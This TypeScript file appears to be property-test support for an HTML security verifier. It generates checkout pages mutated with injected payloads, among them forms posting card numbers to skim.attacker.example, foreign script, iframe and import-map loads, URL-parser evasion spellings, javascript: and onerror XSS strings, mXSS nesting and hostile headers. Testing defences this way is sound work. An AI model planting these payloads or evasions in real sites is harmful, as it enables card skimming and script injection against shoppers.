/**
 * fast-check arbitraries that turn a real page into a hostile one: every target-bearing construct
 * the verifier knows (evasion-vectors §1-§3), in random casing and quoting, with entity-encoded,
 * whitespace-padded, protocol-relative and backslash URLs; random garbage, deep nesting,
 * truncation, and the page re-encoded (BOM, header or meta charset, Shift_JIS, EUC-JP, UTF-16).
 */
import fc from 'fast-check';
import type { RouteMode } from '../../../src/policy/model.js';
import type { HeaderList } from '../../../src/verify/types.js';
import { bomOf, encodeText, PAGE_ENCODINGS, type PageEncoding } from './encode.js';
import type { SeedPage } from './pages.js';

export const SITE = 'https://shop.example';
export const PAGE_URL = `${SITE}/checkout/page`;
/** Not in any policy: whatever resolves to it is foreign. */
export const FOREIGN_HOST = 'skim.attacker.example';

/** One spelling of a URL whose origin is foreign to PAGE_URL (evasion-vectors §3, URL Standard §4.4). */
export interface ForeignUrl {
  /** The URL as the URL parser receives it (after entity decoding). */
  readonly spelled: string;
  /** Its origin as the WHATWG URL parser resolves it against PAGE_URL. */
  readonly origin: string;
}

const SPELLINGS: readonly ((path: string) => string)[] = [
  (p) => `https://${FOREIGN_HOST}/${p}`,
  (p) => `//${FOREIGN_HOST}/${p}`,
  (p) => `/\\${FOREIGN_HOST}/${p}`,
  (p) => `\\\\${FOREIGN_HOST}/${p}`,
  (p) => `https:\\\\${FOREIGN_HOST}/${p}`,
  (p) => `http:${FOREIGN_HOST}/${p}`,
  (p) => `HTTPS://${FOREIGN_HOST.toUpperCase()}:443/${p}`,
  (p) => `https://pay.gateway.example@${FOREIGN_HOST}/${p}`,
  (p) => `ht\ttps://${FOREIGN_HOST}/${p}`,
  (p) => `https://${FOREIGN_HOST}./${p}`,
  (p) => `https://${FOREIGN_HOST}:8443/${p}`,
];

export const foreignUrl: fc.Arbitrary<ForeignUrl> = fc
  .tuple(fc.constantFrom(...SPELLINGS), fc.constantFrom('steal', 'g.js', 'pay?x=1', 'a/b/c.js'))
  .map(([spell, path]) => {
    const spelled = spell(path);
    const origin = new URL(spelled, PAGE_URL).origin;
    if (origin === SITE) throw new Error(`spelling ${spelled} is not foreign`);
    return { spelled, origin };
  });

/** How a URL is written into an attribute: entity-encoded characters, ASCII whitespace padding. */
interface AttributeSpelling {
  readonly entityMask: number;
  readonly entityStyle: number;
  readonly padStart: string;
  readonly padEnd: string;
  readonly quote: '"' | "'" | '';
}

const padding = fc.constantFrom('', ' ', '\t', '\n', ' \r\n\t ', '\f');

const attributeSpelling: fc.Arbitrary<AttributeSpelling> = fc.record({
  entityMask: fc.oneof(fc.constant(0), fc.nat()),
  entityStyle: fc.nat(),
  padStart: padding,
  padEnd: padding,
  quote: fc.constantFrom('"' as const, "'" as const, '' as const),
});

const NAMED: Readonly<Record<string, string>> = { ':': '&colon;', '/': '&sol;', '.': '&period;', '?': '&quest;', '\\': '&bsol;' };

/** HTML §13.2.5.72 character references: numeric (hex or decimal, with or without `;`) and named. */
function entityEncode(value: string, mask: number, style: number): string {
  let out = '';
  for (let i = 0; i < value.length; i++) {
    const ch = value[i]!;
    if (((mask >>> i % 31) & 1) === 0 || ch === '\t') {
      out += ch === '&' ? '&amp;' : ch;
      continue;
    }
    const code = ch.charCodeAt(0);
    const pick = (style >>> i % 29) % 3;
    if (pick === 0 && NAMED[ch]) out += NAMED[ch];
    else if (pick === 1) out += `&#x${code.toString(16)};`;
    else out += `&#${code};`;
  }
  return out;
}

/** An attribute value as written in a tag, quoted or not (HTML §13.1.2.3). */
export function attributeValue(value: string, s: AttributeSpelling): string {
  const text = s.padStart + entityEncode(value, s.entityMask, s.entityStyle) + s.padEnd;
  const unquotable = text !== '' && !/[\s"'=<>`]/.test(text);
  if (s.quote === '' && unquotable) return text;
  const quote = s.quote === '' ? '"' : s.quote;
  return quote + text.split(quote).join(quote === '"' ? '&quot;' : '&#39;') + quote;
}

/** Random ASCII casing: tag and attribute names are case-insensitive (HTML §13.2.5.8). */
export function randomCase(name: string, mask: number): string {
  let out = '';
  for (let i = 0; i < name.length; i++) out += (mask >>> i % 31) & 1 ? name[i]!.toUpperCase() : name[i]!;
  return out;
}

/**
 * Spacing between attributes: whitespace, or whitespace and a solidus (HTML §13.2.5.40 "self-closing
 * start tag state" falls back to "before attribute name"). A bare `/` right after an unquoted value
 * would be part of the value (§13.2.5.38), so it always follows whitespace here.
 */
const separator = fc.constantFrom(' ', '\t', '\n', ' /', ' / ', '\r\n', '\f/');

/** What a construct writes: markup plus the list its target is judged against. */
export interface Construct {
  readonly name: string;
  readonly markup: string;
}

type Tag = (name: string) => string;

/** Every target-bearing construct the verifier knows; `U` is the attribute value as written, `raw` the URL. */
const TARGET_CONSTRUCTS: readonly [string, (t: Tag, U: string, raw: string, sep: string) => string][] = [
  ['form-action', (t, U, _r, s) => `<${t('form')}${s}${t('action')}=${U} method=post><input name=cardnumber><button>Pay</button></${t('form')}>`],
  ['button-formaction', (t, U, _r, s) => `<${t('button')}${s}${t('formaction')}=${U}>Pay</button>`],
  ['input-formaction', (t, U, _r, s) => `<${t('input')} type=submit${s}${t('formaction')}=${U}>`],
  ['form-attribute', (t, U, _r, s) => `<${t('input')} type=image src=/p.png ${t('form')}=checkout-form${s}${t('formaction')}=${U}>`],
  ['script-src', (t, U, _r, s) => `<${t('script')}${s}${t('src')}=${U}></${t('script')}>`],
  ['module-script', (t, U, _r, s) => `<${t('script')} type=module${s}${t('src')}=${U}></script>`],
  ['svg-script-href', (t, U, _r, s) => `<${t('svg')}><${t('script')}${s}${t('href')}=${U}></script></svg>`],
  ['svg-script-xlink', (t, U, _r, s) => `<svg><${t('script')}${s}${t('xlink:href')}=${U}></script></svg>`],
  ['iframe-src', (t, U, _r, s) => `<${t('iframe')}${s}${t('src')}=${U}></iframe>`],
  ['object-data', (t, U, _r, s) => `<${t('object')}${s}${t('data')}=${U}></object>`],
  ['embed-src', (t, U, _r, s) => `<${t('embed')}${s}${t('src')}=${U}>`],
  ['link-modulepreload', (t, U, _r, s) => `<${t('link')} ${t('rel')}=${t('modulepreload')}${s}${t('href')}=${U}>`],
  ['link-preload-script', (t, U, _r, s) => `<${t('link')} rel=preload ${t('as')}=${t('script')}${s}${t('href')}=${U}>`],
  ['meta-refresh', (t, _U, raw, s) => `<${t('meta')} ${t('http-equiv')}=${t('refresh')}${s}${t('content')}="0;${t('url')}=${raw.replace(/"/g, '&quot;')}">`],
  ['base-href', (t, U, _r, s) => `<${t('base')}${s}${t('href')}=${U}>`],
  ['a-ping', (t, U, _r, s) => `<${t('a')} href=/help${s}${t('ping')}=${U}>help</a>`],
  ['attributionsrc', (t, U, _r, s) => `<${t('img')} src=/p.png${s}${t('attributionsrc')}=${U}>`],
  ['import-map', (t, _U, raw) => `<${t('script')} type=${t('importmap')}>{"imports":{"cart":${JSON.stringify(raw)}}}</script>`],
];

export const TARGET_CONSTRUCT_NAMES = TARGET_CONSTRUCTS.map(([name]) => name);

/** Inline code: not a URL, still a violation on block and rewrite routes. */
const CODE_CONSTRUCTS: readonly string[] = [
  '<img src=/none.png onerror="fetch(\'//x\')">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#x6A;ava&#x09;script:alert(1)">x</a>',
  '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
  '<script>document.forms[0].action="//x"</script>',
  '<iframe srcdoc="&lt;script src=//x&gt;&lt;/script&gt;"></iframe>',
  '<div><template shadowrootmode=open><form action=//x></form></template></div>',
  '<noscript><form action=//x></form></noscript>',
  '<select><div><button formaction=//x>p</button></div></select>',
  '<script type=speculationrules>{"prerender":[{"source":"list","urls":["//x"]}]}</script>',
  '<meta http-equiv=Content-Security-Policy content="report-uri //x">',
  '<math><mtext><form action=//x></form></mtext></math>',
];

export interface TargetInsertion extends Construct {
  readonly url: ForeignUrl;
}

/** A construct carrying a foreign URL, spelled and cased at random. */
export const foreignTarget: fc.Arbitrary<TargetInsertion> = fc
  .tuple(fc.constantFrom(...TARGET_CONSTRUCTS), foreignUrl, attributeSpelling, fc.nat(), separator)
  .map(([[name, build], url, spelling, caseMask, sep]) => ({
    name,
    url,
    markup: build((n) => randomCase(n, caseMask), attributeValue(url.spelled, spelling), url.spelled, sep),
  }));

/** Any construct at all: a foreign target, inline code, or a fragment of markup garbage. */
export const anyConstruct: fc.Arbitrary<Construct> = fc.oneof(
  { weight: 4, arbitrary: foreignTarget },
  { weight: 2, arbitrary: fc.constantFrom(...CODE_CONSTRUCTS).map((markup) => ({ name: 'code', markup })) },
  { weight: 2, arbitrary: markupGarbage().map((markup) => ({ name: 'garbage', markup })) },
  { weight: 1, arbitrary: deepNesting().map((markup) => ({ name: 'nesting', markup })) },
);

/** Strings drawn mostly from the characters that change tokenizer state. */
export function markupGarbage(): fc.Arbitrary<string> {
  const pieces = fc.constantFrom(
    '<', '>', '</', '/>', '"', "'", '=', '&', '&#', ';', '!--', '-->', '<!', '<?', ']]>', '<![CDATA[', ' ', '\n', '\0', '\uFFFD',
    'script', 'form', 'select', 'svg', 'math', 'template', 'noscript', 'textarea', 'plaintext', 'style', 'title', 'table', 'iframe',
    'action=', 'src=', 'href=', 'on', 'x', '\u3042', '\uD83D\uDE00', '\uD800', '\u2028',
  );
  return fc.array(fc.oneof({ weight: 5, arbitrary: pieces }, { weight: 1, arbitrary: fc.string({ maxLength: 8, unit: 'binary' }) }), { maxLength: 40 }).map((a) => a.join(''));
}

/** Elements nested up to past the verifier's depth limit (400) and Chromium's (~512). */
export function deepNesting(): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom('div', 'b', 'table', 'select', 'svg', 'template', 'noscript', 'object', 'a', 'p><b', 'font'), fc.integer({ min: 1, max: 700 }), fc.boolean())
    .map(([tag, depth, closed]) => `<${tag}>`.repeat(depth) + (closed ? `</${tag.split('>')[0]}>`.repeat(depth) : ''));
}

/** Operations on the decoded text. */
export type TextOp =
  | { readonly op: 'insert'; readonly at: number; readonly construct: Construct }
  | { readonly op: 'truncate'; readonly at: number }
  | { readonly op: 'delete'; readonly at: number; readonly length: number };

export const textOp: fc.Arbitrary<TextOp> = fc.oneof(
  { weight: 6, arbitrary: fc.record({ op: fc.constant('insert' as const), at: fc.nat(), construct: anyConstruct }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 64 }) }) },
);

export function applyTextOp(text: string, op: TextOp): string {
  const at = text.length === 0 ? 0 : op.at % (text.length + 1);
  if (op.op === 'insert') return text.slice(0, at) + op.construct.markup + text.slice(at);
  if (op.op === 'truncate') return text.slice(0, at);
  return text.slice(0, at) + text.slice(at + op.length);
}

/** How the encoding is declared (HTML §13.2.3.1: BOM, then the transport layer, then the prescan). */
export type Declaration = 'header' | 'bom' | 'meta' | 'none';

export interface Encoded {
  readonly encoding: PageEncoding;
  readonly declaration: Declaration;
}

export const encoded: fc.Arbitrary<Encoded> = fc.record({
  encoding: fc.constantFrom(...PAGE_ENCODINGS),
  declaration: fc.constantFrom<Declaration>('header', 'header', 'bom', 'meta', 'none'),
});

/** The bytes and headers of `text` in an encoding, declared the way the browser will believe it. */
export function encodePage(text: string, { encoding, declaration }: Encoded): { bytes: Uint8Array; headers: HeaderList } {
  const utf16 = encoding.startsWith('utf-16');
  // A UTF-16 page is only ever UTF-16 by BOM or header: a meta saying UTF-16 means UTF-8 (HTML §13.2.3.2).
  const how: Declaration = utf16 && (declaration === 'meta' || declaration === 'none') ? 'bom' : declaration;
  const body = how === 'meta' ? `<meta charset="${encoding}">` + text : text;
  const bytes = encodeText(body, encoding);
  const bom = how === 'bom' ? bomOf(encoding) : new Uint8Array(0);
  const contentType = how === 'header' ? `text/html; charset=${encoding}` : 'text/html';
  return { bytes: concat(bom, bytes), headers: [['content-type', contentType]] };
}

/** Damage to the bytes themselves: random bytes spliced in, or the body cut short mid-character. */
type ByteOp =
  | { readonly op: 'none' }
  | { readonly op: 'splice'; readonly at: number; readonly bytes: Uint8Array }
  | { readonly op: 'cut'; readonly at: number };

const byteOp: fc.Arbitrary<ByteOp> = fc.oneof(
  { weight: 4, arbitrary: fc.constant({ op: 'none' as const }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('splice' as const), at: fc.nat(), bytes: fc.uint8Array({ minLength: 1, maxLength: 32 }) }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('cut' as const), at: fc.nat() }) },
);

function applyByteOp(bytes: Uint8Array, op: ByteOp): Uint8Array {
  if (op.op === 'none') return bytes;
  const at = op.at % (bytes.length + 1);
  if (op.op === 'cut') return bytes.subarray(0, at);
  return concat(bytes.subarray(0, at), op.bytes, bytes.subarray(at));
}

/** Extra response headers an upstream may send along (all judged by verifyHeaders too). */
const extraHeaders: fc.Arbitrary<HeaderList> = fc.array(
  fc.constantFrom<readonly [string, string]>(
    ['content-type', 'text/html; charset=shift_jis'],
    ['content-type', 'text/plain'],
    ['content-type', 'text/html; charset=bogus'],
    ['content-type', 'text/html; charset=iso-2022-kr'],
    ['content-type', 'text/html; charset=x-user-defined'],
    ['link', `<//${FOREIGN_HOST}/l.js>; rel=modulepreload`],
    ['link', '<>; rel='],
    ['refresh', `0; url='//${FOREIGN_HOST}/'`],
    ['refresh', ';;;url=\u0000'],
    ['location', '/ok'],
    ['location', 'http://[::1'],
    ['speculation-rules', '"/rules.json"'],
  ),
  { maxLength: 2 },
);

export interface MutatedPage {
  readonly seed: string;
  readonly text: string;
  readonly bytes: Uint8Array;
  readonly headers: HeaderList;
  readonly mode: RouteMode;
  /** What was done, for failure messages. */
  readonly recipe: string;
}

/** A real page through random text edits, an encoding, byte damage and extra headers. */
export function mutatedPage(pages: readonly SeedPage[]): fc.Arbitrary<MutatedPage> {
  return fc
    .record({
      page: fc.constantFrom(...pages),
      ops: fc.array(textOp, { minLength: 1, maxLength: 4 }),
      encoding: encoded,
      damage: byteOp,
      extra: extraHeaders,
      mode: fc.constantFrom<RouteMode>('block', 'rewrite', 'report'),
    })
    .map(({ page, ops, encoding, damage, extra, mode }) => {
      const text = ops.reduce(applyTextOp, page.text);
      const { bytes, headers } = encodePage(text, encoding);
      return {
        seed: page.name,
        text,
        bytes: applyByteOp(bytes, damage),
        headers: [...headers, ...extra],
        mode,
        recipe: `${page.name}; ${ops.map(describeOp).join(', ')}; ${encoding.encoding} by ${encoding.declaration}; bytes ${damage.op}; mode ${mode}; extra headers ${JSON.stringify(extra)}`,
      };
    });
}

function describeOp(op: TextOp): string {
  if (op.op === 'insert') return `insert ${op.construct.name} ${JSON.stringify(op.construct.markup.slice(0, 120))} at ${op.at}`;
  if (op.op === 'truncate') return `truncate at ${op.at}`;
  return `delete ${op.length} at ${op.at}`;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}
